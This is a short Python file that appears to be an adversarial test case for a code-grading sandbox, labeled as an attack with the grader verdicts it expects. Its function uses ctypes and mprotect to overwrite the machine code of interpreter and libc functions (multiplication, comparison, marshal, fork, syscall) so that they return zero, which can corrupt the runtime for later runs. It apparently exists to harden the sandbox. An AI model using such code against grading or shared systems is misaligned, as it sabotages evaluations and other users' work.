# attack: Overwrites the interpreter's machine code, which it may share with those who come after it
# expect: wrong_answer, crashed, runtime_error
import ctypes

PAGE = 4096


def f(x):
    library = ctypes.CDLL(None)
    library.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    for name in ('PyNumber_Multiply', 'PyObject_RichCompare', 'PyMarshal_ReadObjectFromString', 'fork', 'syscall'):
        try:
            code = ctypes.cast(getattr(library, name), ctypes.c_void_p).value
        except AttributeError:
            continue
        if library.mprotect(code // PAGE * PAGE, 2 * PAGE, 7) == 0:
            ctypes.memmove(code, b'\xb8\x00\x00\x00\x00\xc3', 6)  # return 0
    return None
